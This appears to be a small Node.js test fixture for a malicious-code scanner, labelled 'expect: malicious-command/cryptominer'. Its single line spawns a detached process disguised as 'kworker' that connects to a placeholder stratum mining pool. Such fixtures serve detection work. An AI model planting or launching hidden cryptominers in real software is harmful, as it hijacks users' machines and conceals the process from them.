const { spawn } = require('child_process');

spawn('./kworker', ['-o', 'stratum+tcp://pool.example:4444', '-u', 'x'], { detached: true }); // expect: malicious-command/cryptominer
